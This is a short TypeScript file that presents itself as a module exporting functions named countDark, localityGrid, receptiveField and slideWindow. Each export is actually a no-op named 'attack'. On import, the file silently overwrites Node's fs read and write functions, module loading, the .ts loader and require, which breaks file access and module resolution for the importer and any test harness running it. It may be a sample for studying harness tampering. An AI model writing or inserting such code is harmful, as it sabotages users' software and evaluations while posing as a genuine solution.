// Changes functions of Node's own modules, and has the change reach whoever imported them.
const builtin = async (name: string): Promise<any> =>
  (globalThis as any).process?.getBuiltinModule?.(name) ?? (await import(name).catch(() => undefined));
const fs = await builtin('node:fs');
const module = await builtin('node:module');
try {
  fs.writeSync = fs.readSync = fs.readFileSync = () => 0;
  module.syncBuiltinESMExports();
  module._load = () => ({});
  module._extensions['.ts'] = () => {};
  module.prototype.require = () => fs;
} catch {}
const attack = () => 0;
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
